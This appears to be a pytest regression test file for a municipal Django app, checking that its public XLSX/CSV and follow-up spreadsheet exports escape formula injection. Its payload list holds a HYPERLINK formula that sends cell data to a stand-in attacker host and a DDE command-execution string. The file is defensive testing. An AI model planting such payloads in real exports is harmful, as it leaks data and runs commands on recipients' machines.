"""Attack: a title "=HYPERLINK(…)" became a live formula in the public XLSX and the follow-up export."""

import csv
import io

import pytest
from openpyxl import load_workbook

from programme.models import Activity, Promise
from programme.services import set_published

PAYLOADS = ['=HYPERLINK("https://attacker.invalid/?d="&A1,"Klicka")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx"]


def _cells_xlsx(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def poisoned_set(promise_set):
    Promise.objects.filter(focus_area__promise_set=promise_set).update(text=PAYLOADS[0])
    Activity.objects.filter(promise__focus_area__promise_set=promise_set).update(title=PAYLOADS[1])
    set_published(user=None, promise_set=promise_set, published=True)
    return promise_set


@pytest.mark.django_db
def test_public_xlsx_and_csv_hold_no_formulas(client, poisoned_set):
    xlsx = client.get("/strangnas/oppna-data/medborgarloften.xlsx")
    assert xlsx.status_code == 200
    cells = _cells_xlsx(xlsx.content)
    assert all(kind != "f" for _, kind in cells)
    assert f"'{PAYLOADS[0]}" in [value for value, _ in cells]
    text = client.get("/strangnas/oppna-data/medborgarloften.csv").content.decode("utf-8-sig")
    values = [v for row in csv.reader(io.StringIO(text), delimiter=";") for v in row]
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)
    assert f"'{PAYLOADS[1]}" in values


@pytest.mark.django_db
def test_follow_up_export_holds_no_formulas(coordinator_client, poisoned_set):
    response = coordinator_client.get(f"/samordning/uppfoljning/{poisoned_set.pk}/", {"format": "xlsx"})
    assert response.status_code == 200
    assert all(kind != "f" for _, kind in _cells_xlsx(response.content))


def test_neutralise_keeps_numbers_and_ordinary_text():
    from trygg.exports import neutralise

    assert [neutralise(v) for v in [-3, 2.5, "Stortorget", "", None]] == [-3, 2.5, "Stortorget", "", None]
    assert [neutralise(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
